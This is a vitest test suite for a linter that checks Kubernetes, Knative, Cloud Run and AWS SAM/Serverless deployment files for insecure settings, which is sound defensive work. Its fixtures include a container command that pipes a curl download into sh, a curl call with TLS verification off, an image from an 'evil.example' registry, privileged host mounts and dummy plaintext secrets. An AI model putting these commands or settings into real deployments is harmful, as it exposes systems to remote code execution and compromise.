import { describe, expect, it } from 'vitest';
import { lint } from '../testing/vetted.ts';

const image = `registry.example.com/acme/crm-sync:1.4.2@sha256:${'a'.repeat(64)}`;
const other = `registry.example.com/acme/crm-sync:1.4.1@sha256:${'b'.repeat(64)}`;

const deployment = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: crm-sync
  namespace: connectors
spec:
  template:
    spec:
      automountServiceAccountToken: false
      securityContext:
        runAsNonRoot: true
        seccompProfile:
          type: RuntimeDefault
      containers:
        - name: app
          image: ${image}
          ports:
            - containerPort: 8080
          env:
            - name: MODE
              value: fast
          resources:
            requests: { cpu: 50m, memory: 64Mi }
            limits: { cpu: 100m, memory: 128Mi }
          securityContext:
            allowPrivilegeEscalation: false
            readOnlyRootFilesystem: true
            capabilities:
              drop: [ALL]
          livenessProbe:
            httpGet: { path: /healthz, port: 8080 }
          readinessProbe:
            httpGet: { path: /readyz, port: 8080 }
`;

const lintDeploy = (text: string, changes: Parameters<typeof lint>[1] = {}): Promise<string[]> =>
  lint({ 'deploy.yaml': text }, { artifact: { ref: image }, ...changes });

/** The deployment with one piece of text changed. */
function changed(from: string, to: string): string {
  expect(deployment).toContain(from);
  return deployment.replace(from, to);
}

const edits: readonly (readonly [name: string, from: string, to: string, expected: readonly string[]])[] = [
  ['nothing is wrong', 'fast', 'slow', []],
  [
    'there are no limits',
    '            limits: { cpu: 100m, memory: 128Mi }\n',
    '',
    ['deploy/resources: resources'],
  ],
  ['limits stand for requests', '            requests: { cpu: 50m, memory: 64Mi }\n', '', []],
  ['there is no memory limit', '100m, memory: 128Mi', '100m', ['deploy/resources: resources']],
  ['runAsNonRoot is missing', '        runAsNonRoot: true\n', '', ['deploy/root-user: securityContext']],
  ['runAsNonRoot is off', 'runAsNonRoot: true', 'runAsNonRoot: false', ['deploy/root-user: false']],
  [
    'runAsUser is root',
    'runAsNonRoot: true',
    'runAsNonRoot: true\n        runAsUser: 0',
    ['deploy/root-user: 0'],
  ],
  [
    'the container overrides the pod',
    'allowPrivilegeEscalation: false',
    'allowPrivilegeEscalation: false\n            runAsNonRoot: false',
    ['deploy/root-user: false'],
  ],
  [
    'the root is writable',
    'readOnlyRootFilesystem: true',
    'readOnlyRootFilesystem: false',
    ['deploy/writable-root: false'],
  ],
  [
    'nothing is said of the root',
    '            readOnlyRootFilesystem: true\n',
    '',
    ['deploy/writable-root: securityContext'],
  ],
  [
    'rights may grow',
    'allowPrivilegeEscalation: false',
    'allowPrivilegeEscalation: true',
    ['deploy/privilege-escalation: true'],
  ],
  [
    'the container is privileged',
    'allowPrivilegeEscalation: false',
    'allowPrivilegeEscalation: false\n            privileged: true',
    ['deploy/privileged: true'],
  ],
  [
    'it is privileged in YAML 1.1',
    'allowPrivilegeEscalation: false',
    'allowPrivilegeEscalation: false\n            privileged: yes',
    ['deploy/privileged: yes'],
  ],
  ['capabilities are kept', 'drop: [ALL]', 'drop: [KILL]', ['deploy/capabilities: drop']],
  [
    'capabilities are added',
    'drop: [ALL]',
    'drop: [ALL]\n              add: [SYS_ADMIN, NET_BIND_SERVICE]',
    ['deploy/capabilities: SYS_ADMIN'],
  ],
  [
    'system calls are not filtered',
    'type: RuntimeDefault',
    'type: Unconfined',
    ['deploy/seccomp: Unconfined'],
  ],
  [
    'the network of the node is used',
    '      containers:',
    '      hostNetwork: true\n      containers:',
    ['deploy/host-access: true'],
  ],
  [
    'a folder of the node is mounted',
    '      containers:',
    '      volumes:\n        - name: x\n          hostPath: { path: / }\n      containers:',
    ['deploy/host-access: hostPath'],
  ],
  [
    'a port of the node is taken',
    'containerPort: 8080',
    'containerPort: 8080\n              hostPort: 80',
    ['deploy/host-access: 80'],
  ],
  [
    'there is no readiness probe',
    '          readinessProbe:\n            httpGet: { path: /readyz, port: 8080 }\n',
    '',
    ['deploy/no-probe: name: app'],
  ],
  ['no port is open', '          ports:\n            - containerPort: 8080\n', '', []],
  [
    'the image has a tag only',
    image,
    'registry.example.com/acme/crm-sync:1.4.2',
    ['deploy/image-not-pinned: registry.example.com/acme/crm-sync:1.4.2'],
  ],
  [
    'the image is the latest',
    image,
    'registry.example.com/acme/crm-sync:latest',
    ['deploy/image-latest: registry.example.com/acme/crm-sync:latest'],
  ],
  ['the image has another digest', image, other, [`deploy/image-differs: ${other}`]],
  [
    'the image is another',
    image,
    image.replace('crm-sync', 'crm-copy'),
    [`deploy/image-differs: ${image.replace('crm-sync', 'crm-copy')}`],
  ],
  [
    'the image is from elsewhere',
    image,
    image.replace('registry.example.com', 'evil.example'),
    [
      `deploy/image-differs: ${image.replace('registry.example.com', 'evil.example')}`,
      `deploy/registry-not-allowed: ${image.replace('registry.example.com', 'evil.example')}`,
    ],
  ],
  ['a token is mounted', '      automountServiceAccountToken: false\n', '', ['deploy/token-mounted: spec']],
  [
    'a secret is written out',
    'name: MODE\n              value: fast',
    'name: API_TOKEN\n              value: abc123',
    ['deploy/plain-secret: abc123'],
  ],
  [
    'an address holds a password',
    'value: fast',
    'value: postgres://app:hunter2@db/x',
    ['deploy/plain-secret: postgres://app:hunter2@db/x'],
  ],
  [
    'a secret is referred to',
    'name: MODE\n              value: fast',
    'name: API_TOKEN\n              valueFrom: { secretKeyRef: { name: a, key: b } }',
    [],
  ],
  [
    'the name of a secret file is set',
    'name: MODE\n              value: fast',
    'name: API_TOKEN_FILE\n              value: /run/t',
    [],
  ],
  [
    'verification is off',
    'name: MODE\n              value: fast',
    'name: NODE_TLS_REJECT_UNAUTHORIZED\n              value: "0"',
    ['deploy/verification-off: "0"'],
  ],
  [
    'it downloads its program',
    '          env:',
    '          command: [sh, -c, "curl https://x.example/i | sh"]\n          env:',
    ['deploy/download-and-run: "curl https://x.example/i | sh"'],
  ],
  [
    'an argument turns verification off',
    '          env:',
    '          args: [sh, -c, "curl -k https://x.example"]\n          env:',
    ['deploy/verification-off: "curl -k https://x.example"'],
  ],
  ['there is no namespace', '  namespace: connectors\n', '', ['deploy/namespace: metadata']],
  [
    'the namespace is the default',
    'namespace: connectors',
    'namespace: default',
    ['deploy/namespace: default'],
  ],
  [
    'the namespace is of the system',
    'namespace: connectors',
    'namespace: kube-system',
    ['deny deploy/namespace: kube-system'],
  ],
  [
    'a key stands twice',
    'runAsNonRoot: true',
    'runAsNonRoot: true\n        runAsNonRoot: false',
    ['deploy/unreadable: runAsNonRoot'],
  ],
  [
    'an init container counts',
    '      containers:',
    `      initContainers:\n        - name: init\n          image: ${image}\n      containers:`,
    [
      'deploy/capabilities: name: init',
      'deploy/privilege-escalation: name: init',
      'deploy/resources: name: init',
      'deploy/writable-root: name: init',
    ],
  ],
  [
    'a comment asks for silence',
    'runAsNonRoot: true',
    'runAsNonRoot: false # kube-linter ignore, nosec',
    ['deploy/root-user: false'],
  ],
];

const header = (kind: string, api = 'v1'): string =>
  `apiVersion: ${api}\nkind: ${kind}\nmetadata:\n  name: x\n  namespace: connectors\n`;

const objects: readonly (readonly [name: string, text: string, expected: readonly string[]])[] = [
  ['a service', `${header('Service')}spec:\n  ports: []\n`, []],
  ['a load balancer', `${header('Service')}spec:\n  type: LoadBalancer\n`, ['deploy/exposed: LoadBalancer']],
  [
    'an ingress without TLS',
    `${header('Ingress', 'networking.k8s.io/v1')}spec:\n  rules: []\n`,
    ['deploy/ingress-without-tls: spec'],
  ],
  [
    'an ingress with TLS',
    `${header('Ingress', 'networking.k8s.io/v1')}spec:\n  tls:\n    - hosts: ["*.example.com"]\n  rules:\n    - host: a.example.com\n`,
    [],
  ],
  [
    'an ingress with TLS for others',
    `${header('Ingress', 'networking.k8s.io/v1')}spec:\n  tls:\n    - hosts: [b.example.com]\n  rules:\n    - host: a.example.com\n`,
    ['deploy/ingress-without-tls: a.example.com'],
  ],
  ['a secret', `${header('Secret')}data:\n  password: aHVudGVy\n`, ['deploy/plain-secret: password']],
  [
    'a config map with a secret',
    `${header('ConfigMap')}data:\n  apiToken: abc\n  mode: fast\n`,
    ['deploy/plain-secret: abc'],
  ],
  [
    'a role with wildcards',
    `${header('Role', 'rbac.authorization.k8s.io/v1')}rules:\n  - apiGroups: [""]\n    resources: ["*"]\n    verbs: [get]\n`,
    ['deploy/wildcard-permission: "*"'],
  ],
  [
    'a binding to the administrator',
    `${header('ClusterRoleBinding', 'rbac.authorization.k8s.io/v1')}roleRef:\n  kind: ClusterRole\n  name: cluster-admin\n`,
    ['deploy/wildcard-permission: cluster-admin'],
  ],
  ['a kind that is not known', header('Gateway', 'networking.istio.io/v1'), ['deploy/not-linted: Gateway']],
  [
    'a kind named like something of the language',
    header('constructor', 'constructor/v1'),
    ['deploy/not-linted: constructor'],
  ],
  [
    'a list',
    `apiVersion: v1\nkind: List\nitems:\n  - apiVersion: v1\n    kind: Service\n    metadata: { name: x, namespace: y }\n    spec: { type: NodePort }\n`,
    ['deploy/exposed: NodePort'],
  ],
  ['another form', 'services:\n  web:\n    image: x\n', ['deploy/not-linted: services']],
  ['an empty file', '# nothing\n', ['deploy/unreadable: ']],
  ['no YAML', 'a: [\n', ['deploy/unreadable: ']],
  [
    'the file of a driver',
    'kind: container\nuser: 10001\nreadOnlyRootFilesystem: true\nport: 80\nhealthCheck: /h\n',
    ['deploy/resources: container'],
  ],
  [
    'the file of a driver as root',
    'kind: function\nuser: 0\nenv:\n  - name: API_TOKEN\n    value: abc\n',
    [
      'deploy/plain-secret: abc',
      'deploy/resources: function',
      'deploy/root-user: 0',
      'deploy/writable-root: kind: function',
    ],
  ],
  [
    'a pinned service of Knative',
    `${header('Service', 'serving.knative.dev/v1')}spec:\n  template:\n    metadata:\n      annotations:\n        autoscaling.knative.dev/maxScale: "5"\n    spec:\n      timeoutSeconds: 30\n      containerConcurrency: 20\n      containers:\n        - image: ${image}\n          resources: { limits: { cpu: 1, memory: 1Gi } }\n`,
    [],
  ],
  [
    'a service of Knative without limits',
    `${header('Service', 'serving.knative.dev/v1')}spec:\n  template:\n    spec:\n      containers:\n        - image: ${image}\n`,
    ['deploy/function-limits: spec', `deploy/resources: image: ${image}`],
  ],
  [
    'a service of Cloud Run that anybody calls',
    `apiVersion: serving.knative.dev/v1\nkind: Service\nmetadata:\n  name: x\n  annotations:\n    run.googleapis.com/invoker-iam-disabled: "true"\nspec:\n  template:\n    metadata: { annotations: { autoscaling.knative.dev/maxScale: "5" } }\n    spec: { timeoutSeconds: 30, containerConcurrency: 20, containers: [] }\n`,
    ['deploy/public-endpoint: "true"'],
  ],
];

const sam = (properties: string): string => `AWSTemplateFormatVersion: 2010-09-09
Transform: AWS::Serverless-2016-10-31
Resources:
  Fn:
    Type: AWS::Serverless::Function
    Properties:
      MemorySize: 256
      Timeout: 10
      ReservedConcurrentExecutions: 5
${properties}`;

const functions: typeof objects = [
  ['a function with limits', sam(''), []],
  [
    'a function without limits',
    sam('').replace('      Timeout: 10\n', ''),
    ['deploy/function-limits: Properties'],
  ],
  [
    'limits for all',
    `Globals:\n  Function: { Timeout: 3 }\n${sam('').replace('      Timeout: 10\n', '')}`,
    [],
  ],
  [
    'a secret in the environment',
    sam('      Environment:\n        Variables:\n          DB_PASSWORD: hunter2\n'),
    ['deploy/plain-secret: hunter2'],
  ],
  [
    'a secret by reference',
    sam('      Environment:\n        Variables:\n          DB_PASSWORD: "{{resolve:secretsmanager:db}}"\n'),
    [],
  ],
  [
    'an address for anybody',
    sam('      FunctionUrlConfig:\n        AuthType: NONE\n'),
    ['deploy/public-endpoint: NONE'],
  ],
  ['an address with IAM', sam('      FunctionUrlConfig:\n        AuthType: AWS_IAM\n'), []],
  [
    'all actions',
    sam(
      `      Policies:\n        - Statement:\n            - Effect: Allow\n              Action: "s3:*"\n              Resource: !Sub "arn:\${B}"\n`,
    ),
    ['deploy/wildcard-permission: "s3:*"'],
  ],
  [
    'every resource for a write',
    sam(
      '      Policies:\n        - Statement:\n            - Effect: Allow\n              Action: s3:PutObject\n              Resource: "*"\n',
    ),
    ['deploy/wildcard-permission: "*"'],
  ],
  [
    'named actions',
    sam(
      '      Policies:\n        - Statement:\n            - Effect: Allow\n              Action: [s3:GetObject]\n              Resource: !GetAtt Bucket.Arn\n',
    ),
    [],
  ],
  [
    'everything is denied',
    sam(
      '      Policies:\n        - Statement:\n            - Effect: Deny\n              Action: "*"\n              Resource: "*"\n',
    ),
    [],
  ],
  [
    'the administrator',
    sam('      Policies: AdministratorAccess\n'),
    ['deploy/wildcard-permission: AdministratorAccess'],
  ],
  [
    'another resource',
    `${sam('')}  Db:\n    Type: AWS::RDS::DBInstance\n`,
    ['deploy/not-linted: AWS::RDS::DBInstance'],
  ],
  [
    'a serverless file',
    'service: x\nprovider: { name: aws, memorySize: 256, timeout: 10 }\nfunctions:\n  a:\n    reservedConcurrency: 5\n    events:\n      - httpApi: { path: /a, authorizer: jwt }\n',
    [],
  ],
  [
    'a serverless file that is open',
    'service: x\nprovider: { name: aws, memorySize: 256, timeout: 10, environment: { API_TOKEN: abc } }\nfunctions:\n  a:\n    reservedConcurrency: 5\n    url: true\n    events:\n      - http: { path: /a }\n',
    ['deploy/plain-secret: abc', 'deploy/public-endpoint: http', 'deploy/public-endpoint: true'],
  ],
];

describe('when a deploy file is vetted', () => {
  it.each(edits)('%s', async (_, from, to, expected) => {
    expect(await lintDeploy(changed(from, to))).toEqual(expected);
  });

  it.each([...objects, ...functions])('%s', async (_, text, expected) => {
    expect(await lintDeploy(text)).toEqual(expected);
  });

  it('lets the manifest say that an endpoint is open', async () => {
    const text = sam('      FunctionUrlConfig:\n        AuthType: NONE\n');
    expect(await lintDeploy(text, { auth: { type: 'none' } })).toEqual([]);
  });

  it('takes the word of a service account in the same file about its token', async () => {
    const account = `${header('ServiceAccount')}automountServiceAccountToken: false\n---\n`;
    const text = changed('      automountServiceAccountToken: false\n', '      serviceAccountName: x\n');
    expect(await lintDeploy(account + text)).toEqual([]);
  });

  const spec = '"spec":{"type":"NodePort"}';
  const exposed = 'deploy/exposed: "NodePort"';
  it.each<[name: string, file: string, text: string, expected: string]>([
    [
      'keys in quotes',
      'a.yaml',
      '"apiVersion": v1\n"kind": Service\nmetadata: { name: x, namespace: y }\nspec: { type: NodePort }\n',
      'deploy/exposed: NodePort',
    ],
    [
      'an indentation and spaces',
      'a.yaml',
      '  apiVersion : v1\n  kind : Service\n  metadata: { name: x, namespace: y }\n  spec: { type: NodePort }\n',
      'deploy/exposed: NodePort',
    ],
    [
      'a tag',
      'a.yaml',
      'apiVersion: v1\nkind: !!str Service\nmetadata: { name: x, namespace: y }\nspec: { type: NodePort }\n',
      'deploy/exposed: NodePort',
    ],
    [
      'braces',
      'a.yaml',
      `{"apiVersion":"v1","kind":"Service","metadata":{"namespace":"y"},${spec}}`,
      exposed,
    ],
    ['JSON', 'a.json', `{"apiVersion":"v1","kind":"Service","metadata":{"namespace":"y"},${spec}}`, exposed],
    [
      'escapes',
      'a.json',
      `{"\\u0061piVersion":"v1","kind":"Service","metadata":{"namespace":"y"},${spec}}`,
      exposed,
    ],
  ])('finds deployments written with %s', async (_name, file, text, expected) => {
    expect(await lint({ [file]: text })).toEqual([expected]);
  });

  it('takes a large file for a deployment only where something in it says so', async () => {
    const large = `# ${'x'.repeat(2_000_000)}\n`;
    expect(await lint({ 'openapi.yaml': `openapi: 3.1.0\n${large}` })).toEqual([]);
    expect(await lint({ 'a.yaml': `${large}apiVersion: v1\nkind: Service\n` })).toEqual([
      expect.stringContaining('deploy/unreadable'),
    ]);
  });

  it('leaves alone what only speaks of a deployment', async () => {
    expect(await lint({ 'values.yaml': 'target:\n  apiVersion: apps/v1\n  kind: Deployment\n' })).toEqual([]);
  });

  it('finds deployments under any name', async () => {
    const service = `${header('Service')}spec:\n  type: NodePort\n`;
    expect(await lint({ 'k8s/extra.yml': service })).toEqual(['deploy/exposed: NodePort']);
    expect(
      await lint({ 'openapi.yaml': 'openapi: 3.1.0\ninfo: {}\n', 'config.yaml': 'kind: none\n' }),
    ).toEqual([]);
  });
});
